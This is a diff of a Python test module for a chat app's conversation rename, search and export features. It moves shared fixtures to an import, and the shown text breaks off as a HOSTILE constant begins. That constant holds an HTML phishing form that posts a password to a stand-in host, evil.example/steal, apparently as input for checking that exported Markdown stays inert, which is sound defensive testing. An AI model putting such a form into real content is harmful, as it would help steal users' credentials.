@@ -1,34 +1,20 @@
+# ruff: noqa: F811 (pytest fixtures arrive as parameters named like the imported fixtures)
 """Rename, search, export and the failed message kept across reloads, through `Conversations` over a real SQLite
 store: only the caller's own, bad input refused with a sentence, exported Markdown that stays inert."""
 
 from __future__ import annotations
 
 import json
-from collections.abc import Iterator
-from pathlib import Path
 
 import pytest
 from markdown_it import MarkdownIt
 
-from chatapp.chat import ChatService
 from chatapp.conversations import Conversations, NotFound
 from chatapp.history.sqlite import SqliteStore
 from chatapp.inputs import InputError
-from tests.chat.test_chat_service import ScriptedModel
-from tests.chat.test_conversations import _Saver, talk
 
-
-@pytest.fixture
-def store(tmp_path: Path) -> Iterator[SqliteStore]:
-    store = SqliteStore(tmp_path / "history.sqlite3")
-    yield store
-    store.close()
-
-
-@pytest.fixture
-def conversations(store: SqliteStore) -> Conversations:
-    return Conversations(ChatService({"M": ScriptedModel("M")}, _Saver(store), context_chars=10_000), store)
-
+# The same store and service as the other Conversations tests (fixtures shared by import).
+from tests.chat.test_conversations import conversations, store, talk  # noqa: F401
 
 HOSTILE = (
     'Sign in again: <form action="https://evil.example/steal"><input name="password"></form>\n'
